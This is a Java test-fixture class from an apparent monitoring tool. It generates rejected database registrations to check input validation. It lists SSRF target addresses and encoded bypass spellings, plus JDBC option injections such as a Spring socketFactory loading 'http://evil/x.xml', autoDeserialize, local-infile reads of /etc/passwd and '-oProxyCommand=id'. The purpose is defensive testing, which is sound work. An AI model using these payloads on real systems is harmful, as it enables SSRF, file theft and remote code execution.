package io.opscope.monitoring.source;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

/** Registrations that would lead somewhere else, or mean something to a driver, if they were taken. */
final class Payloads {

    /** Where nobody may be sent: metadata, link-local, loopback, unspecified, multicast, and addresses that carry them. */
    private static final List<String> ADDRESSES = List.of(
            "169.254.169.254",
            "169.254.170.2",
            "169.254.0.1",
            "100.100.100.200",
            "168.63.129.16",
            "192.0.0.192",
            "192.0.0.170",
            "0.0.0.0",
            "0.1.2.3",
            "127.0.0.2",
            "127.1.2.3",
            "127.255.255.254",
            "10.0.0.1",
            "10.21.0.1",
            "172.16.0.1",
            "192.168.0.1",
            "100.64.0.1",
            "198.18.0.1",
            "203.0.113.7",
            "8.8.8.8",
            "224.0.0.1",
            "239.255.255.250",
            "240.0.0.1",
            "255.255.255.255",
            "::",
            "::1",
            "fe80::1",
            "febf::1",
            "fec0::1",
            "fc00::1",
            "fd00::1",
            "fd00:ec2::254",
            "fd20:ce::254",
            "ff02::1",
            "ff0e::1",
            "2001:db8::1",
            "2606:4700:4700::1111",
            "::ffff:169.254.169.254",
            "::ffff:a9fe:a9fe",
            "::ffff:10.0.0.1",
            "::ffff:0:169.254.169.254",
            "::169.254.169.254",
            "64:ff9b::169.254.169.254",
            "64:ff9b::a00:1",
            "64:ff9b:1::a9fe:a9fe",
            "2002:a9fe:a9fe::1",
            "2002:a00:1::1",
            "2001:0:a9fe:a9fe::1",
            "2001::7f00:1");

    /** Other spellings of addresses, and what some resolver takes for one. */
    private static final List<String> SPELLINGS = List.of(
            "2130706433",
            "2852039166",
            "0x7f000001",
            "0x7f.0.0.1",
            "0xa9.0xfe.0xa9.0xfe",
            "0xa9fea9fe",
            "0177.0.0.1",
            "017700000001",
            "0251.0376.0251.0376",
            "127.1",
            "127.0.1",
            "127.0.0.01",
            "127.000.000.001",
            "127.0.0.1.",
            "127.0.0.0x1",
            "1.2.3.4.5",
            "256.256.256.256",
            "999.1.1.1",
            "1.1.1.-1",
            "[::1]",
            "[::ffff:127.0.0.1]",
            "[127.0.0.1]",
            "::1%lo",
            "fe80::1%eth0",
            "fe80::1%25eth0",
            "::1/128",
            "10.20.0.1/8",
            "127.0.0.1:5432",
            "127.0.0.1:22",
            "127.0.0.1 169.254.169.254",
            "127.0.0.1,169.254.169.254",
            "127.0.0.1;169.254.169.254",
            "127.0.0.1|169.254.169.254",
            "127.0.0.1@169.254.169.254",
            "169.254.169.254@127.0.0.1",
            "127.0.0.1#169.254.169.254",
            "127.0.0.1\\169.254.169.254",
            "//169.254.169.254",
            "http://169.254.169.254/latest/meta-data/",
            "jdbc:postgresql://169.254.169.254/x",
            "jdbc:mysql://169.254.169.254/x",
            "file:///etc/passwd",
            "gopher://127.0.0.1:6379/_INFO",
            "ldap://127.0.0.1/x",
            "unix:/run/postgresql",
            "/run/postgresql",
            "/var/run/mysqld/mysqld.sock",
            "address=(host=169.254.169.254)(port=80)",
            "(host=169.254.169.254,port=80)",
            "[(host=169.254.169.254),(host=127.0.0.1)]",
            "localhost.",
            "-oProxyCommand=id",
            "１２７.0.0.1",
            "①②⑦.0.0.1",
            "127。0。0。1",
            "db．example",
            "%31%32%37.0.0.1",
            "127%2e0%2e0%2e1",
            "..",
            ".",
            "a..b",
            "-a",
            "a-",
            "*",
            "*.example.org",
            "\u0000",
            "127.0.0.1\u0000.example.org",
            "127.0.0.1\r\nHost: x",
            "127.0.0.1\n",
            "\t127.0.0.1",
            " 127.0.0.1",
            "127.0.0.1 ",
            "db\u202eexample",
            "a".repeat(64),
            ("a".repeat(60) + ".").repeat(5) + "a");

    /** What drivers can be talked into. */
    private static final List<String> OPTIONS = List.of(
            "sslmode=disable",
            "sslfactory=java.lang.String",
            "sslfactoryarg=x",
            "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
            "socketFactoryArg=http://evil/x.xml",
            "loggerLevel=TRACE",
            "loggerFile=/tmp/x.jsp",
            "authenticationPluginClassName=x",
            "sslpasswordcallback=x",
            "options=-c%20search_path=x",
            "jaasApplicationName=x",
            "localSocketAddress=127.0.0.2",
            "unixSocketFactory=x",
            "PGHOST=169.254.169.254",
            "PGPORT=22",
            "allowLoadLocalInfile=true",
            "allowUrlInLocalInfile=true",
            "allowLoadLocalInfileInPath=/",
            "autoDeserialize=true",
            "queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
            "statementInterceptors=x",
            "propertiesTransform=x",
            "connectionLifecycleInterceptors=x",
            "exceptionInterceptors=x",
            "serverRSAPublicKeyFile=/etc/passwd",
            "trustCertificateKeyStoreUrl=http://169.254.169.254/",
            "clientCertificateKeyStoreUrl=file:///etc/passwd",
            "useSSL=false",
            "verifyServerCertificate=false",
            "permitMysqlScheme=true");

    private static final List<String> SEPARATORS = List.of("?", "&", ";", "#", ",");

    private Payloads() {}

    /** Each is a change of a registration that is good without it. */
    static List<Map<String, Object>> all() {
        var all = new ArrayList<Map<String, Object>>();
        ADDRESSES.forEach(address -> all.add(Map.of("host", address)));
        SPELLINGS.forEach(spelling -> all.add(Map.of("host", spelling)));
        for (var option : OPTIONS) {
            for (var separator : SEPARATORS) {
                all.add(Map.of("host", "127.0.0.1" + separator + option));
                all.add(Map.of("database", "postgres" + separator + option));
                all.add(Map.of("username", "postgres" + separator + option));
            }
            all.add(Map.of("host", "127.0.0.1/postgres?" + option));
            all.add(Map.of("type", "postgresql?" + option));
            all.add(Map.of("tls", "prefer&" + option));
        }
        for (var type : List.of("mysql", "mariadb")) {
            OPTIONS.forEach(option -> all.add(Map.of("type", type, "database", "shop?" + option)));
        }
        for (var port : new Object[] {0, -1, 65_536, "5432?a=b", "5432/x", List.of(5432, 22), true}) {
            all.add(Map.of("port", port));
        }
        for (var field : List.of("url", "jdbc_url", "jdbcUrl", "properties", "options")) {
            all.add(withoutHost(field));
        }
        return all;
    }

    /** An address of a driver's is not even read. */
    private static Map<String, Object> withoutHost(String field) {
        var change = new HashMap<String, Object>();
        change.put("host", null);
        change.put(field, "jdbc:postgresql://169.254.169.254/postgres");
        return change;
    }
}
